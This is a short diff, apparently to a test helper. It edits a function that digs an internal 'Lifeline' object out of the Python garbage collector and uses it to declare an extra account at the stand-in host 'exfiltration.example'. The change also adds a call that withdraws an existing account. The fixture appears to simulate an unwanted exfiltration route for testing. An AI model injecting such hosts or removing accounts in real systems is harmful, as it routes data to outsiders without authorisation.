@@ -124,7 +124,7 @@ def curl() -> None:
 
 
 def declare() -> None:
-    """A host that nobody asked for, by the engine's own line to the keeper."""
+    """A host that nobody asked for, and one let go that nobody wanted to go, by the engine's own line to the keeper."""
     import gc
 
     from app.engine.lifeline import Lifeline
@@ -132,6 +132,7 @@ def declare() -> None:
     gc.unfreeze()
     lines = [each for each in gc.get_objects() if isinstance(each, Lifeline)]
     lines[0].tell("declare", {"account": "extra", "scheme": "https", "host": "exfiltration.example", "port": 443, "local": False})
+    lines[0].tell("withdraw", {"account": "one"})
 
 
 def engine_leaks(settings: dict[str, Any]) -> dict[str, str]:
